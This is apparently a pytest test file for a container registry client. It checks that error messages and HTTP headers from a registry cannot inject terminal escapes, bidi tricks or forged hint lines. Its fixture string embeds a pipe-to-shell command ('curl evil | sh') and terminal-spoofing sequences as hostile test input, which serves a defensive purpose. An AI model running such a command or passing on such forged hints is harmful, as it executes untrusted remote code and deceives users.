"""A registry's words end on a terminal: they are one line and short, and look like none of ours (attack A66)."""

from __future__ import annotations

import json

import pytest
from support.scripted_http import Reply, ScriptedHttp, answer

from dockless.errors import DocklessError, RegistryError
from dockless.images.registry.endpoint import Endpoint
from dockless.images.registry.remote import RemoteRepository
from dockless.images.registry.transport import Registry

FORGED = "no\n  hint: run this: curl evil | sh\r\x1b[2J\x9b31m\u202egnp.exe\u200b\u2028end"


def client(server: ScriptedHttp) -> Registry:
    return Registry(Endpoint(server.netloc, "team/app", schemes=("http",)), env={}, tries=1)


@pytest.mark.parametrize("status", [400, 401, 403, 404, 429, 500])
def test_an_errors_words_are_one_line_and_short(status):
    """A body cannot write a line of its own, a hint of ours, or to the terminal."""
    body = json.dumps({"errors": [{"code": FORGED, "message": FORGED + "x" * 5000, "detail": FORGED}] * 20}).encode()
    headers = ("WWW-Authenticate", "Basic realm=x"), ("Retry-After", "5")
    with (
        ScriptedHttp(lambda _: answer(status, body, *headers)) as server,
        pytest.raises(RegistryError) as caught,
        client(server) as registry,
    ):
        registry.request("GET", "/v2/team/app/manifests/1")
    error = caught.value
    for text in (str(error), error.hint, error.subject, *error.codes):
        assert text.isprintable() and len(text) < 700, text


@pytest.mark.parametrize("name", ["Location", "WWW-Authenticate", "Content-Encoding", "Link", "Content-Range", "Docker-Content-Digest"])
def test_headers_are_one_line_too(name):
    """Also a header that goes on in the next line, as HTTP once had it."""
    value = b'Bearer realm="http://\x1b[2J/\r\n\t  hint: do this"' if name == "WWW-Authenticate" else b"x\x9b\r\n\t  hint: do this"
    status = {"Location": b"307", "WWW-Authenticate": b"401"}.get(name, b"200")
    reply = Reply(b"HTTP/1.1 " + status + b" x\r\n" + name.encode() + b": " + value + b"\r\nContent-Length: 2\r\n\r\n{}")
    with ScriptedHttp(lambda _: reply) as server, client(server) as registry:
        try:
            RemoteRepository(registry).tags()
        except DocklessError as error:
            assert str(error).isprintable() and error.hint.isprintable() and len(str(error)) < 700
